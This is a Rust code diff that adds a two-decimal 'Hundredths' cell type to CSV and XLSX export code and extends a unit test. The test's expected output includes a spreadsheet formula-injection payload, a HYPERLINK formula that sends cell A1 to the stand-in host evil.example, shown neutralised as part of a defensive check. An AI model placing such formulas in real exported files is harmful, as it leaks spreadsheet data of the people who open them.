@@ -161,6 +161,9 @@ pub fn csv_field<'a>(cell: &Cell<'a>) -> Cow<'a, str> {
         Cell::None | Cell::Date(None) => Cow::Borrowed(""),
         Cell::Text(text) => neutralise(text),
         Cell::Integer(n) | Cell::Cents(n) => Cow::Owned(n.to_string()),
+        Cell::Hundredths(n) => {
+            Cow::Owned(format!("{}{}.{:02}", if n < 0 { "-" } else { "" }, n.abs() / 100, n.abs() % 100))
+        }
         Cell::Date(Some(date)) => Cow::Owned(date.to_string()),
     }
 }
@@ -212,6 +215,8 @@ pub enum Kind {
     Euros,
     /// A date (`yyyy-mm-dd`).
     Date,
+    /// A number with two decimals (`0.00`).
+    Decimal,
 }
 
 /// A column of an XLSX export: its header, its kind, its width (in characters).
@@ -234,6 +239,8 @@ pub enum Cell<'a> {
     Text(&'a str),
     Integer(i64),
     Cents(i64),
+    /// A number with two decimals, given in hundredths (a weighted total of 55.25: 5525).
+    Hundredths(i64),
     Date(Option<NaiveDate>),
 }
 
@@ -258,6 +265,7 @@ impl Sheet {
                 Kind::Integer => Format::new().set_num_format("0"),
                 Kind::Euros => Format::new().set_num_format("#,##0.00 \"€\""),
                 Kind::Date => Format::new().set_num_format("yyyy-mm-dd"),
+                Kind::Decimal => Format::new().set_num_format("0.00"),
             })
             .collect();
         let sheet = workbook.add_worksheet_with_constant_memory().map_err(xlsx_error)?;
@@ -283,6 +291,9 @@ impl Sheet {
                 }
                 Cell::Integer(n) => {
                     sheet.write_number_with_format(row, col, n as f64, format).map_err(xlsx_error)?;
+                }
+                Cell::Hundredths(n) => {
+                    sheet.write_number_with_format(row, col, n as f64 / 100.0, format).map_err(xlsx_error)?;
                 }
                 Cell::Cents(cents) => {
                     sheet
@@ -325,15 +336,16 @@ mod tests {
             Cell::Text("Les Ateliers Solidaires"),
             Cell::Integer(-5),
             Cell::Cents(-1_234_56),
+            Cell::Hundredths(-5525),
             Cell::Date(date),
             Cell::Date(None),
             Cell::None,
         ];
-        let header: Vec<String> = "abcdefgh".chars().map(String::from).collect();
+        let header: Vec<String> = "abcdefghi".chars().map(String::from).collect();
         let body = csv_document(&header, &[cells.to_vec()]).unwrap();
         assert_eq!(
             String::from_utf8(body).unwrap(),
-            "a,b,c,d,e,f,g,h\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"clic\"\")\",'-X,Les Ateliers Solidaires,-5,-123456,2026-03-12,,\r\n"
+            "a,b,c,d,e,f,g,h,i\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"clic\"\")\",'-X,Les Ateliers Solidaires,-5,-123456,-55.25,2026-03-12,,\r\n"
         );
     }
 
